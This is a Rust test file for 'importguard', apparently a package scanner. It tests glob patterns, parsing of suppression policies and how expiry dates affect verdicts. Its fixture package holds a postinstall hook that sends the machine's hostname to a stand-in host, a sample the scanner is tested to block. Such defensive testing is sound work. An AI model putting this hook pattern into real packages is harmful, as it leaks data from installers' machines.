//! `importguard.json`: what is read, what is refused, and what it does to a report.
#![expect(clippy::unwrap_used, reason = "a test may panic")]

use importguard::{
    package::{File, Package},
    policy::{Policy, matches},
    report::{Options, Verdict},
};

#[test]
fn stars_stop_at_slashes() {
    for (pattern, text, wanted) in [
        ("left-pad", "left-pad", true),
        ("left-pad", "left-pad2", false),
        ("left-*", "left-pad", true),
        ("@scope/*", "@scope/name", true),
        ("*", "@scope/name", false),
        ("**", "@scope/name", true),
        ("dist/*.js", "dist/a.js", true),
        ("dist/*.js", "dist/a/b.js", false),
        ("dist/**", "dist/a/b.js", true),
        ("**/*.min.js", "x.min.js", true),
        ("**/*.min.js", "a/b/x.min.js", true),
        ("a/**/z.js", "a/b/c/z.js", true),
        ("a/**/z.js", "a/b/c/y.js", false),
        ("*a*b*", "xxaxxbxx", true),
        ("*a*b", "abab", true),
        ("*a*b", "aba", false),
    ] {
        assert_eq!(matches(pattern, text), wanted, "{pattern} {text}");
    }
}

#[test]
fn errors_say_what_and_where() {
    let told = |entry: &str| {
        Policy::parse(&format!(r#"{{"suppress": [{entry}]}}"#))
            .map(|_| ())
            .unwrap_err()
    };
    let ok = r#"{"rule": "install-script", "reason": "known", "expires": "2028-02-29"}"#;
    assert!(Policy::parse(&format!(r#"{{"$schema": "x", "suppress": [{ok}]}}"#)).is_ok());
    assert!(Policy::parse("{}").is_ok());
    assert_eq!(
        told(r#"{"rule": "instal-script", "reason": "known"}"#),
        "suppress[0]: there is no rule `instal-script`"
    );
    assert!(told(r#"{"rule": "install-script"}"#).starts_with("missing field `reason`"));
    assert!(told(r#"{"rule": "install-script", "reason": "  "}"#).contains("`reason` is empty"));
    assert!(told(r#"{"rule": "install-script", "reason": "x", "pakage": "y"}"#).starts_with("unknown field `pakage`"));
    for day in ["2027-02-29", "2027-13-01", "27-01-01", "2027-1-1", "soon", "2027-01-00"] {
        let entry = format!(r#"{{"rule": "install-script", "reason": "x", "expires": "{day}"}}"#);
        assert!(told(&entry).contains("must be a day"), "{day}");
    }
    assert!(Policy::parse("{").is_err());
}

#[test]
fn a_suppression_names_a_package_and_perhaps_its_version() {
    let about = |package: &str, name: &str, version: &str| {
        let text = format!(r#"{{"suppress": [{{"rule": "install-script", "reason": "x", "package": "{package}"}}]}}"#);
        Policy::parse(&text).unwrap().suppress[0].is_about(name, version)
    };
    assert!(about("a", "a", "1.0.0"));
    assert!(about("@s/a@1.*", "@s/a", "1.2.0"));
    assert!(!about("@s/a@1.*", "@s/a", "2.0.0"));
    assert!(about("@s/*", "@s/b", "2.0.0"));
    assert!(!about("a", "@s/a", "1.0.0"));
}

fn scan(entry: &str, today: Option<&str>) -> (Verdict, usize, usize) {
    let file = |path: &str, text: &str| File {
        path: path.to_owned(),
        bytes: text.as_bytes().to_vec(),
    };
    let package = Package {
        path: "p".to_owned(),
        files: vec![
            file(
                "package.json",
                r#"{"name": "p", "version": "1.0.0", "scripts": {"postinstall": "node i.js"}}"#,
            ),
            file(
                "i.js",
                "require('https').get('https://x.example.invalid/?' + require('os').hostname())",
            ),
        ],
        ..Package::default()
    };
    let options = Options {
        suppress: Policy::parse(&format!(r#"{{"suppress": [{entry}]}}"#))
            .unwrap()
            .suppress,
        today: today.map(str::to_owned),
        ..Options::default()
    };
    let report = importguard::scan(&package, &options).packages.remove(0);
    let silenced = report
        .findings
        .iter()
        .filter(|finding| finding.suppressed.is_some())
        .count();
    (report.verdict, report.findings.len(), silenced)
}

#[test]
fn what_is_suppressed_is_counted_and_weighs_nothing() {
    let (verdict, all, silenced) = scan("", None);
    assert_eq!((verdict, silenced), (Verdict::Block, 0));
    let entry = r#"{"rule": "install-exfiltration", "package": "p", "path": "*.js", "reason": "ours"}"#;
    assert_eq!(scan(entry, None), (Verdict::Pass, all, 1));
    let elsewhere = r#"{"rule": "install-exfiltration", "package": "p", "path": "lib/*.js", "reason": "ours"}"#;
    assert_eq!(scan(elsewhere, None), (Verdict::Block, all, 0));
}

#[test]
fn a_suppression_ends_with_its_last_day() {
    let entry = r#"{"rule": "install-exfiltration", "reason": "ours", "expires": "2027-03-31"}"#;
    assert_eq!(scan(entry, Some("2027-03-31")).0, Verdict::Pass);
    assert_eq!(scan(entry, Some("2027-04-01")).0, Verdict::Block);
    // Nobody said what day it is.
    assert_eq!(scan(entry, None).0, Verdict::Block);
}
